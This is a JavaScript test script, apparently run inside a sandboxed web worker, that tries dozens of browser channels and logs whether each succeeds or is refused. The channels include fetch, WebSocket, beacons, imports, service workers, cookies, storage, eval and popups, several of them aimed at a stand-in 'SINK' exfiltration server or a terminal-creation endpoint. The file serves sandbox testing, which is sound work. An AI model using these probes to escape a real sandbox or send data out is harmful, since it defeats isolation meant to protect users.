/* eslint no-undef: "off" -- the names of a worker, there or not */
// Everything a JavaScript program may try. Prints one JSON line for each attempt: what it got, or
// how it was refused. SITE and SINK stand for the two servers' addresses.
const got = new Map();

async function attempt(name, attack) {
  let outcome;
  try {
    const value = await attack();
    outcome = value === undefined ? 'refused: nothing there' : `got ${String(value)}`;
  } catch (error) {
    outcome = `refused: ${error?.name ?? error}`;
  }
  got.set(name, outcome);
}

function event(target, good, bad) {
  return new Promise((resolve, reject) => {
    target.addEventListener(good, () => resolve(good));
    target.addEventListener(bad, () => reject(bad));
  });
}

function xhr(url) {
  const request = new XMLHttpRequest();
  request.open('GET', url, false);
  request.send();
  return request.status;
}

for (const [where, base] of [
  ['site', 'SITE'],
  ['sink', 'SINK']
]) {
  const here = name => `${where} ${name}`;
  const url = `${base}/attack`;
  await attempt(here('fetch'), () => fetch(`${base}/api/contents`, { credentials: 'include' }));
  await attempt(here('fetch post'), () =>
    fetch(`${base}/api/terminals`, { method: 'POST', mode: 'no-cors', keepalive: true })
  );
  await attempt(here('xhr'), () => xhr(url));
  await attempt(here('websocket'), () =>
    event(new WebSocket(url.replace('http', 'ws')), 'open', 'error')
  );
  await attempt(here('websocket stream'), async () => {
    const stream = new WebSocketStream(url.replace('http', 'ws'));
    await stream.opened;
    return 'opened';
  });
  await attempt(here('eventsource'), () => event(new EventSource(url), 'open', 'error'));
  await attempt(here('webtransport'), async () => {
    const transport = new WebTransport(url.replace('http:', 'https:'));
    // Firefox tells it of the end as well, which nobody here waits for.
    transport.closed.catch(() => undefined);
    await transport.ready;
    return 'ready';
  });
  await attempt(here('import'), () => import(`${url}.js`));
  await attempt(here('importScripts'), () => self.importScripts(`${url}.js`));
  await attempt(here('font'), () => new FontFace('f', `url(${url}.woff)`).load());
  await attempt(here('beacon'), () => navigator.sendBeacon(url, 'x'));
  await attempt(here('service worker'), () => navigator.serviceWorker.register(`${url}.js`));
  await attempt(here('location'), () => {
    location.href = url;
    return location.href.startsWith(base) ? 'moved' : undefined;
  });
}

const blob = source => URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
const nested = `fetch('SITE/nested').then(() => postMessage('through'), () => postMessage('no'))`;
await attempt('nested worker', () => event(new Worker(blob(nested)), 'message', 'error'));
await attempt('shared worker', () => new SharedWorker(blob(nested)));
await attempt('prototype worker', () => DedicatedWorkerGlobalScope.prototype.Worker);
await attempt('import data', () => import('data:text/javascript,export default 1'));
await attempt('fetch data', () => fetch('data:text/plain,x'));
await attempt('eval', () => eval('1'));
await attempt('Function', () => new Function('return 1')());
await attempt('async function', () =>
  Object.getPrototypeOf(async () => 0).constructor('return 1')()
);
await attempt('parent', () => self.parent);
await attempt('top', () => self.top);
await attempt('opener', () => self.opener);
await attempt('window', () => self.window);
await attempt('document', () => self.document);
await attempt('cookie', () => document.cookie);
await attempt('cookieStore', () => self.cookieStore?.getAll());
await attempt('localStorage', () => self.localStorage);
await attempt('sessionStorage', () => self.sessionStorage);
await attempt('indexedDB', () => event(indexedDB.open('x'), 'success', 'error'));
await attempt('caches', () => self.caches?.open('x'));
await attempt('private files', () => navigator.storage.getDirectory());
await attempt('broadcast', () => new BroadcastChannel('x'));
await attempt('message channel', () => new MessageChannel());
await attempt('postMessage', () => self.postMessage);
await attempt('prototype postMessage', () => DedicatedWorkerGlobalScope.prototype.postMessage);
await attempt('close', () => self.close);
await attempt('peer connection', () => new RTCPeerConnection());
await attempt('popup', () => self.open('SINK/popup'));
await attempt('fetch later', () => self.fetchLater?.('SINK/later').activated);
await attempt('locks', () => navigator.locks.request('x', () => 'locked'));
await attempt('notification', async () => {
  new Notification('x');
  return Notification.permission === 'granted' ? 'shown' : undefined;
});
await attempt('frames', () => self.frames ?? self.frameElement);
await attempt('data worker', () =>
  event(new Worker('data:text/javascript,postMessage(1)'), 'message', 'error')
);
await attempt('blob fetch', () => fetch(blob('1')));
await attempt('module of a sink in a blob', () => import(blob("import 'SINK/module.js'")));
await attempt('timer text', () => setTimeout('fetch("SINK/timer")', 0));
await attempt('css import', () => new CSSStyleSheet().replace('@import url(SINK/css)'));
await attempt('image', () => createImageBitmap(new Image()));

for (const [name, outcome] of got) {
  console.log(JSON.stringify([name, outcome]));
}
console.log(JSON.stringify(['origin', self.origin]));
